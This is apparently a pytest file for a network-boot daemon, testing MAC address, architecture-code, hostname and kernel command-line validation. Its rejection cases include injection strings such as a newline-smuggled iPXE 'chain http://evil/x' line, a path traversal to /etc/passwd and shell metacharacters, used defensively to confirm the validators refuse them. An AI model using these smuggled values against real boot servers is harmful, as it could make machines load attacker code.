import pytest

from netbootd import model
from netbootd.errors import InvalidInput
from netbootd.model import Arch, MacAddress


@pytest.mark.parametrize(
    "text",
    [
        "aa:bb:cc:dd:ee:ff",
        "AA-BB-CC-DD-EE-FF",
        "aabb.ccdd.eeff",
        "AABBCCDDEEFF",
        " aa:BB:cc:dd:ee:ff ",
    ],
)
def test_mac_forms_normalise(text):
    mac = MacAddress.parse(text)
    assert str(mac) == "aa:bb:cc:dd:ee:ff"
    assert mac.hyphen == "aa-bb-cc-dd-ee-ff"
    assert mac.packed == bytes.fromhex("aabbccddeeff")
    assert mac == MacAddress.parse("aa:bb:cc:dd:ee:ff")
    assert hash(mac) == hash(MacAddress.parse("aabbccddeeff"))


@pytest.mark.parametrize(
    "text",
    [
        "",
        "aa:bb:cc:dd:ee",
        "aa:bb:cc:dd:ee:fg",
        "aa:bb-cc:dd:ee:ff",
        "aabb.ccdd.eef",
        "aa:bb:cc:dd:ee:ff:00",
        "../../etc/passwd",
        "aa:bb:cc:dd:ee:ff\nchain x",
        "ａａbbccddeeff",
    ],
)
def test_bad_macs_rejected(text):
    with pytest.raises(InvalidInput, match="not a MAC address"):
        MacAddress.parse(text)


def test_mac_is_immutable():
    mac = MacAddress.parse("aa:bb:cc:dd:ee:ff")
    with pytest.raises(AttributeError):
        mac._hex = "000000000000"


@pytest.mark.parametrize(
    "code,arch",
    [
        (0, Arch.BIOS),
        (6, Arch.UEFI),
        (7, Arch.UEFI),
        (9, Arch.UEFI),
        (11, Arch.ARM64),
        (16, Arch.HTTP),
    ],
)
def test_arch_codes(code, arch):
    assert Arch.from_client_arch(code) is arch


def test_unknown_arch_is_none():
    assert Arch.from_client_arch(2) is None
    assert Arch.from_client_arch(0xFFFF) is None


@pytest.mark.parametrize("good", ["web1", "a", "x" * 63, "node-01"])
def test_hostnames_ok(good):
    assert model.hostname(good.upper()) == good


@pytest.mark.parametrize(
    "bad",
    ["", "-web", "web-", "x" * 64, "a.b", "a b", "a;b", "a\nchain http://x", "${net0/mac}", "wéb"],
)
def test_hostnames_bad(bad):
    with pytest.raises(InvalidInput, match="hostname"):
        model.hostname(bad)


def test_canon_name():
    assert model.canon_name("Web1.Rack2.Example.org.") == "web1.rack2.example.org"
    for bad in ["", "a..b", "a b.c", "-a.b", "a." * 130]:
        with pytest.raises(InvalidInput):
            model.canon_name(bad)


def test_cmdline_accepts_kernel_syntax():
    v = "console=ttyS0,115200n8 root=/dev/nfs ip=dhcp quiet init=/nix/store/abc-nixos/init  x=[1]"
    assert model.cmdline(v) == " ".join(v.split())


@pytest.mark.parametrize(
    "bad",
    [
        "quiet\nchain http://evil/x",
        "a=${net0/mac}",
        "a;b",
        "a && b",
        "a || b",
        "a#b",
        'a="b"',
        "a\\b",
        "a`b`",
        "x\r",
        "x\x00",
    ],
)
def test_cmdline_injection_refused(bad):
    with pytest.raises(InvalidInput, match="command line"):
        model.cmdline(bad)


def test_role_and_tag_names():
    assert model.role_name("web-1.v2") == "web-1.v2"
    assert model.tag("Rack1") == "rack1"
    for bad in ["", "Web", "../x", "a/b", "a b"]:
        with pytest.raises(InvalidInput):
            model.role_name(bad)
    with pytest.raises(InvalidInput):
        model.tag("a b")
